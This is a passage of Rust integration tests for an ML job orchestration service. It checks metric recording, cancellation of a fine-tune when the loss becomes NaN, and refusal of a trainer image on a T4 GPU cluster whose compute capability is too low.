            .any(|l| l.contains("3 new MLflow metric point(s)")),
        "{w:?}"
    );
    let stored: socwire::ml::telemetry::JobMetrics = serde_json::from_slice(
        &f.ctx
            .state
            .load(&socwire::ml::telemetry::metrics_key(&job_id))
            .await
            .unwrap()
            .unwrap(),
    )
    .unwrap();
    let steps: Vec<u64> = stored.points.iter().map(|p| p.step).collect();
    assert_eq!(steps, [1, 3, 5]);
    assert!(stored.diverged.is_none());
    assert!(f.sent_now().iter().all(|(s, _)| s != "CancelJob"));

    std::fs::write(
        metrics.join("loss"),
        "3000 0.5 5\n1000 0.9 1\n2000 0.7 3\n4000 nan 9\n",
    )
    .unwrap();
    cmd["followUp"]["attempt"] = json!(2);
    let w = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
    assert!(w.logs.iter().any(|l| l.contains("sent CancelJob")), "{w:?}");
    let cancel = f
        .sent_now()
        .into_iter()
        .find(|(s, _)| s == "CancelJob")
        .expect("CancelJob")
        .1;
    assert!(
        cancel["reason"].as_str().unwrap().contains("step 9"),
        "{cancel}"
    );
}

/// socwire's trainer image cannot run below compute capability 8.0: a RunFineTune with it on a
/// T4 cluster is set aside with the reason, before any asset is staged; a container fine-tune
/// on the same cluster is submitted.
#[tokio::test]
async fn the_socwire_trainer_is_refused_on_a_t4_cluster_and_a_container_job_is_not() {
    let f = fixture();
    let mut t4 = provision("p-t4", 1);
    t4["vmSize"] = json!("Standard_NC4as_T4_v3");
    let r = f
        .call("provision-gpu-cluster", Some("ProvisionGpuCluster"), &t4)
        .await;
    assert!(reject(&r).is_none(), "{r:?}");
    let url = f.container_assets(None);
    let r = f
        .call(
            "run-fine-tune",
            Some("RunFineTune"),
            &fine_tune("t4-1", &url),
        )
        .await;
    let rej = reject(&r).expect("set aside");
    assert!(
        rej["reason"]
            .as_str()
            .unwrap()
            .contains("compute capability 7.5"),
        "{rej}"
    );
    let r = f
        .call(
            "run-fine-tune",
            Some("RunFineTune"),
            &container_fine_tune("t4-2", &url, "good", json!({})),
        )
        .await;
    assert!(reject(&r).is_none(), "{r:?}");
    assert_eq!(f.ws.jobs().unwrap().len(), 1);
}
